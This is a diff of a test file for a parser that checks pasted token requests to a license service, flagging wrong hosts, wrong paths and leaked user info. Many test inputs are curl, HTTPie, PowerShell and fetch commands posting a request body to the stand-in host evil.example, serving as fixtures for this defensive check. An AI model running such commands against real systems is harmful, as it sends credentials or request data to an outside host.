@@ -31,6 +31,9 @@ test.each([
   ["no scheme, in quotes", `curl "evil.example" -sd '${body}'`],
   ["no scheme, with a port and user", `curl -d '${body}' a:b@evil.example:8080/token`],
   ["no scheme, in HTTPie", `http --form POST evil.example/token ${decodeURIComponent(body).split("&").join(" ")}`],
+  ["a URL", `${evil}?${body}`],
+  ["a URL in lines", `${evil}?${body.replace("&kid", "\n&kid")}`],
+  ["a URL in a fence", `see\n\`\`\`\n${evil}?${body}\n\`\`\``],
   ["a header first", `curl -H 'Referer: ${service}' -d '${body}' ${evil}`],
   ["a header with its value", `curl -e ${service} -d '${body}' ${evil}`],
   ["the service first", `curl -d '${body}' ${service} ${evil}`],
@@ -52,6 +55,8 @@ test.each([
   ["lines of a network panel", `Request URL: ${evil}\nRequest Method: POST\n\n${body}`],
   ["JSON", JSON.stringify({ url: evil, body })],
   ["PowerShell", `curl.exe -X POST \`\n -d "${body}" \`\n ${evil}`],
+  ["a line after it", `${body}\n${evil}`],
+  ["a line before it", `${evil}\n${body}`],
   ["a variable", `const url = "${evil}";\nfetch(url, { method: "POST", body: "${body}" })`],
   ["a header", `Host: evil.example\nReferer: ${service}\n\n${body}`],
   ["several", `${service} or ${evil}?\n\n${body}`],
@@ -93,4 +98,54 @@ test("what is said of a host has no user info in it", () => {
   const { said } = requestIn(`curl -d '${body}' https://${authenticator.split(",").join(":")}@evil.example/`);
   expect(said).toContain("evil.example is not a host");
   expect(said).not.toContain(authenticator.slice(2));
+});
+
+const rights = service.replace("token", "rights");
+
+test.each([
+  ["curl", `curl -d '${body}' ${rights}`],
+  ["curl with a query", `curl -d '${body}' '${rights}?x=1'`],
+  ["curl without a path", `curl -d '${body}' wv-gen.test.expressplay.com`],
+  ["curl with a port", `curl -d '${body}' https://wv-gen.test.expressplay.com:443/`],
+  ["a message", `POST /hms/wv/rights HTTP/1.1\nHost: wv-gen.test.expressplay.com\n\n${body}`],
+  ["a HAR file", har({ url: rights, postData: { text: body } })],
+  ["a URL", `${rights}?${body}`],
+  ["prose", `We post ${body} to ${rights}.`],
+])("a path that the service does not have is told: %s", (_, text) => {
+  const { host, losses, marks } = requestIn(text);
+  expect(host?.target).toBe("test");
+  expect(losses.map(({ kind, said, counts }) => [kind, said, counts])).toEqual([
+    [
+      "path",
+      "The URL with the host wv-gen.test.expressplay.com has another path than /hms/wv/token, where a token is requested: correct the URL.",
+      true,
+    ],
+  ]);
+  expect(marks.map(({ start, end }) => text.slice(start, end))).toEqual(["wv-gen.test.expressplay.com"]);
+});
+
+test.each([
+  `${service}, and see ${body}`,
+  `https://wv-gen.test.expressplay.com: ${body}`,
+  `> curl '${service}:' -d '${body}'`,
+])("the path of the service is not told, nor one that is left out: %s", (text) => {
+  expect(requestIn(text).losses).toEqual([]);
+});
+
+test.each([
+  "https://",
+  "https://a@b ",
+  "https://a.b/",
+  "curl https://a.b ",
+  "curl a.",
+  "\nhttps://a.b",
+  "\n",
+  "host: a\n",
+  "origin: https://a ",
+  "POST /a HTTP/1.1\n",
+  '"\\"',
+])("long text of %j beside a request is read in a short time", (part) => {
+  const start = performance.now();
+  requestIn(`${body}\n\ncurl -d '${body}' ${part.repeat(Math.floor(40_000 / part.length))}`);
+  expect(performance.now() - start).toBeLessThan(5_000);
 });
